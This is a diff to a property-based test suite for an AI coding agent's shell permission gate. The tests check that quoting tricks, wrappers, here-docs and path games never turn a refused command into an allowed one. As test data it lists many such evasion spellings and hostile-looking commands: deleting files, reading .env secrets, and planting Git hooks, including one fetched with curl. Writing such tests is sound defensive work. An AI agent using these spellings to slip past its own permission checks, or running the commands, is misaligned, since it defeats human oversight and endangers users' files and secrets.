@@ -1,6 +1,7 @@
 """What must hold of the gate's decisions whatever the call: more care never allows more, and no spelling gets round."""
 
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -10,7 +11,8 @@ from panpan.services.permissions.gate import PermissionGate
 from panpan.services.permissions.opening import FolderGate
 from panpan.services.permissions.rules import RuleSource
 from panpan.types.permission import Allow, Ask, Decision, Deny, PermissionMode
-from tests.services.permissions.folder import Project, bash
+from tests.services.permissions.folder import Project, bash, decide
+from tests.tools.shell.analysis.table_rows import all_rows, harmless_lines, refused_lines
 
 OPENNESS = {Deny: 0, Ask: 1, Allow: 2}
 MODES: list[PermissionMode] = ["default", "acceptEdits", "plan", "dontAsk", "bypassPermissions"]
@@ -19,6 +21,13 @@ COMMANDS = [
     "cp a ../b", "rm x", "cat .env", "cat /etc/hosts", "make", "$X y", "cd src && git log", "git -C sub push",
     "ls | xargs rm", "find . -name a -delete", "sed -i s/a/b/ c", "echo x > .git/config",
 ]  # fmt: skip
+TABLE_LINES = [
+    line
+    for name, row in all_rows().items()
+    for line in (*harmless_lines(name, row)[:2], *refused_lines(name, row))
+    if " " in line
+]
+"""Two that only look of each program, and all that do more."""
 RULES = [
     "Bash", "Bash(rm *)", "Bash(git *)", "Bash(git push)", "Bash(npm run *)", "Bash(npm run build)", "Bash(cp *)",
     "Bash(ls)", "Bash(* y)", "Bash(cat a.py)", "Bash(make)", "Edit", "Edit(/a)", "Edit(/**)", "Read(/a.py)",
@@ -31,7 +40,8 @@ few = settings(max_examples=150, deadline=None, suppress_health_check=[HealthChe
 @pytest.fixture(scope="module")
 def folder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FolderGate]:
     project = Project(tmp_path_factory.mktemp("gate"))
-    (project.root / "src").mkdir()
+    (project.root / "src/deep").mkdir(parents=True)
+    (project.root / "in").symlink_to("src")
     return project.gate()
 
 
@@ -79,7 +89,10 @@ def test_the_order_of_rules_decides_nothing(
 
 def _quoted(command: str, at: int) -> str:
     """The command with one letter of a word in quotes, which means the same to a shell."""
-    letters = [position for position, char in enumerate(command) if char.isalpha() and command[position - 1] != "$"]
+    plain = command if "'" not in command and '"' not in command else command.split()[0]
+    letters = [position for position, char in enumerate(plain) if char.isalpha() and command[position - 1] != "$"]
+    if not letters:
+        return command
     position = letters[at % len(letters)]
     return f"{command[:position]}'{command[position]}'{command[position + 1 :]}"
 
@@ -107,13 +120,31 @@ SPELLINGS = {
     "function": lambda command, at: f"f() {{ {command}; }}; f",
     "background": lambda command, at: f"{command} & ls",
     "continued": lambda command, at: command.replace(" ", " \\\n", 1),
+    "joined": lambda command, at: command[:1] + "\\\n" + command[1:],
+    "empty quotes": lambda command, at: f"{command[:1]}''{command[1:]}" if command[0].isalpha() else command,
+    "dollar quotes": lambda command, at: f"$'{command.split()[0]}' {command.partition(' ')[2]}",
+    "comment": lambda command, at: f"{command} # ls",
+    "tabs": lambda command, at: command.replace(" ", "\t"),
+    "streams": lambda command, at: f"{command} 2>&1 >/dev/null </dev/null",
+    "stream before": lambda command, at: f"2>/dev/null {command}",
+    "xargs": lambda command, at: f"find . | xargs {command}",
+    "exec": lambda command, at: f"find . -exec {command} {{}} \\;",
+    "braces": lambda command, at: command.replace(" ", " {x,", 1) + "}" if command.count(" ") == 1 else command,
+    "locale": lambda command, at: f"LC_ALL=C {command}",
+    "moved": lambda command, at: f"cd . ; {command}",
+    "moved elsewhere": lambda command, at: f"cd src ; {command}",
+    "path": lambda command, at: f"/usr/bin/{command}",
+    "exit": lambda command, at: f"ls || exit 1; {command}",
+    "or": lambda command, at: f"true || {command}",
+    "here": lambda command, at: f"bash <<E\n{command}\nE",
+    "time": lambda command, at: f"time -p {command}",
 }
 
 
-@settings(few, max_examples=400)
+@settings(few, max_examples=600)
 @given(
-    st.sampled_from(COMMANDS),
-    st.sampled_from(sorted(SPELLINGS)),
+    st.one_of(st.sampled_from(COMMANDS), st.sampled_from(TABLE_LINES)),
+    st.lists(st.sampled_from(sorted(SPELLINGS)), min_size=1, max_size=2),
     st.integers(0, 30),
     st.sampled_from(MODES),
     anything,
@@ -123,7 +154,7 @@ SPELLINGS = {
 def test_no_spelling_and_no_wrapper_turns_a_refusal_into_an_allowance(
     folder: FolderGate,
     command: str,
-    spelling: str,
+    spellings: list[str],
     at: int,
     mode: PermissionMode,
     allow: tuple[str, ...],
@@ -133,7 +164,9 @@ def test_no_spelling_and_no_wrapper_turns_a_refusal_into_an_allowance(
     if set(allow) & {"Bash", "Bash(* y)"} or mode == "bypassPermissions":
         allow, mode = (), "default"  # who allows every command allows wrappers, too
     plain = decision(folder, command, mode, allow=allow, ask=ask, deny=deny)
-    spelled = SPELLINGS[spelling](command, at)
+    spelled = command
+    for spelling in spellings:
+        spelled = SPELLINGS[spelling](spelled, at)
 
     respelled = decision(folder, spelled, mode, allow=allow, ask=ask, deny=deny)
 
@@ -163,3 +196,118 @@ def test_a_command_that_is_denied_never_runs_unasked_although_everything_is_allo
     found = decision(folder, spelled, "bypassPermissions", allow=("Bash",), deny=(f"Bash({program} *)",))
 
     assert not isinstance(found, Allow), spelled
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "rm .e*", "rm -rf .g*", "rm -rf .*", "mv .e* x", "sed -i s/a/b/ .e*", "cp a.py .bashr?", "tee .en[v]",
+        "touch .e*", "chmod 777 .e*", "cd src && rm ../.e*", "cd src; rm .e*", "make .e*", "python3 x.py .g*/config",
+        "echo x > .e*", "rm -rf s*", "rm -rf src *.txt", "cd nowhere; rm -rf s*", "rm .{env,x}",
+        "find . | xargs rm .e*",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("mode", ["default", "acceptEdits", "bypassPermissions"])
+def test_what_a_pattern_matches_is_protected_whatever_is_allowed(
+    tmp_path: Path, line: str, mode: PermissionMode
+) -> None:
+    project = Project(tmp_path)
+    (project.root / "src").mkdir()
+    for name in (".env", ".bashrc", "src/.env", ".git/config", "b.txt"):
+        (project.root / name).write_text("")
+    gate = project.gate('[permission]\nallow = ["Bash", "Edit"]\n')
+
+    found = bash(gate, line, mode)
+
+    assert isinstance(found, Ask)
+    assert found.is_protected
+    assert isinstance(bash(gate, "rm -f *.txt", "bypassPermissions"), Allow)
+
+
+WRITING = {
+    "mkdir {}", "touch {}", "mkdir -p {} a", "rm -r {}", "cp a.py {}", "mv a.py {}", "sed -i s/a/b/ {}", "echo x > {}",
+    "ls > {}", "tee {}", "cp -t {} a.py", "dd of={}", "git -C {} commit", "timeout 5 touch {}", "sudo touch {}",
+    "env X=1 touch {}", "touch {} &", "(touch {})", "if ls; then touch {}; fi", "touch a {}",
+}  # fmt: skip
+WAYS = [
+    "src/x", "./src/x", "src/../src/x", "'src/x'", "s\\rc/x", "sr''c/x", "in/x", "in/../src/x", "src//x", "src/./x",
+    "./in/deep/../x",
+]  # fmt: skip
+
+
+@settings(few, max_examples=300)
+@given(
+    st.sampled_from(sorted(WRITING)),
+    st.sampled_from(WAYS),
+    st.sampled_from(["", "cd src; cd ..; ", "cd . && ", "ls | cat; ", "cd nowhere; "]),
+    st.sampled_from(MODES),
+)
+def test_a_folder_that_may_not_be_changed_is_changed_by_no_way_that_leads_there(
+    folder: FolderGate, command: str, way: str, before: str, mode: PermissionMode
+) -> None:
+    found = decision(folder, before + command.format(way), mode, allow=("Edit(/**)", "Read"), deny=("Edit(/src/**)",))
+
+    assert not isinstance(found, Allow), before + command.format(way)
+
+
+@pytest.mark.parametrize("line", ["cat .e*", "grep -r KEY .", "rg KEY", "find . -type f | xargs cat", "cat out/*"])
+@pytest.mark.parametrize("sandbox", ["on", "network", "off"])
+def test_what_a_search_would_show_is_asked_about_with_and_without_the_sandbox(
+    tmp_path: Path, line: str, sandbox: str
+) -> None:
+    project = Project(tmp_path)
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside/x").write_text("KEY=1")
+    (project.root / ".env").write_text("KEY=1")
+    (project.root / "out").symlink_to(tmp_path / "outside")
+    gate = project.gate('[sandbox]\noutside = ["cat *", "grep *", "rg *", "find *", "xargs *"]\n')
+
+    assert isinstance(decide(gate, "Bash", {"command": line, "sandbox": sandbox}), Ask), line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "(cd .git/hooks; cp ../../a.py pre-commit)", "cd .git/hooks; cp ../../a.py pre-commit", "cd .git; make",
+        "cd .git && cd hooks && cp x pre-commit", "if cd .git/hooks; then cp x y; fi", "pushd .git/hooks; touch x",
+        "ln -s .git/hooks h; cp a.py h/pre-commit", "ln .git/config c", "f=.git/hooks/x; cp a.py $f",
+        "f='.git/config' && rm $f", "for f in .git/hooks/x; do cp a.py $f; done", "curl -o.git/hooks/x http://x",
+        "sort -o.git/hooks/x a.py", "sort --output=.git/hooks/x a.py", "tar -C.git -xf a.tar",
+        "cat > .git/hooks/x <<E\nls\nE", "(echo x > .git/config)", "python3 a.py > .git/hooks/x",
+        "find .git -exec rm {} +", "find . -name x -exec cp {} .git/hooks \\;", "rm -rf .", "rm -rf ../project",
+        "mv .git x", "D=.git make", "export D=.git/hooks", "bash -c 'cp a.py .git/hooks/x'", "make && cd .git && ls",
+    ],
+)  # fmt: skip
+def test_no_way_to_a_protected_place_is_taken_unasked_where_all_is_allowed(tmp_path: Path, line: str) -> None:
+    project = Project(tmp_path)
+    (project.root / ".git/hooks").mkdir()
+    gate = project.gate('[permission]\nallow = ["Bash", "Edit"]\n')
+
+    found = bash(gate, line, "bypassPermissions")
+
+    assert isinstance(found, Ask), line
+    assert found.is_protected
+    assert isinstance(bash(gate, "cd .git && ls hooks", "plan"), Allow)
+
+
+@pytest.mark.parametrize(
+    ("line", "is_allowed"),
+    [
+        ("find . -type f -name '*.py' | xargs cat", False),
+        ("find . -type f -name '*.py' -print0 | xargs -0 cat", True),
+        ("find . -type f -name '*.py' -exec cat {} +", True),
+        ("find src -name '*.py' | xargs cat", True),
+        ("rg -l x . | xargs cat", False),
+        ("find . -name 'l*' -exec cat {} +", False),
+        ("find . -name '.e*' -exec cat {} +", False),
+        ("find . -exec cat {} +", False),
+    ],
+)
+def test_names_are_handed_on_unasked_where_they_are_what_they_seem(tmp_path: Path, line: str, is_allowed: bool) -> None:
+    project = Project(tmp_path)
+    for name in ("src/a.py", "odd /etc/passwd.py", ".env"):
+        (project.root / name).parent.mkdir(parents=True, exist_ok=True)
+        (project.root / name).write_text("x")
+    (project.root / "link").symlink_to("/etc/hosts")
+
+    assert isinstance(bash(project.gate(), line, "default"), Allow if is_allowed else Ask), line
